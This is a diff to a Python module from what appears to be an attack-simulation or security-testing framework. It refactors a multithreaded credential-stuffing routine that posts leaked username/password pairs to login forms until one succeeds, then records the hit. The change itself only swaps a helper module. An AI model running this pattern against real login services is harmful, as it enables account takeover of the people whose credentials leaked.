@@ -17,6 +17,7 @@ import time
 from concurrent.futures import ThreadPoolExecutor
 from typing import Any
 
+from attacker import login_support as ls
 from attacker import token_support as ts
 from attacker.context import AttackContext
 from attacker.model import Attack
@@ -59,9 +60,9 @@ def run(ctx: AttackContext) -> None:
 
     def worker() -> None:
         nonlocal tried
-        http = ts.attacker_session(ctx)
-        page = ts.own_login_page(ctx, http, meta=meta, quiet=True)
-        form = ts.login_form(page)
+        http = ls.attacker_session(ctx)
+        page = ls.own_login_page(ctx, http, meta=meta, quiet=True)
+        form = ls.login_form(page)
         while not stop.is_set() and time.monotonic() < deadline and form is not None:
             with lock:
                 item = next(queue, None)
@@ -75,14 +76,14 @@ def run(ctx: AttackContext) -> None:
             ctx.note_request(answer, actor="attacker")
             with lock:
                 tried += 1
-            reached = ts.signed_in(answer)
+            reached = ls.signed_in(answer)
             if reached:
                 with lock:
                     found.setdefault("hit", {"position": position, "username": username,
                                              "password": password, "next_step": reached})
                 stop.set()
                 return
-            form = ts.login_form(answer) if answer.status_code == 401 else None
+            form = ls.login_form(answer) if answer.status_code == 401 else None
 
     ctx.step("attacker", f"opens {WORKERS} login pages of its own client and posts the "
              f"{len(pairs)} leaked pairs, {WORKERS} at a time")
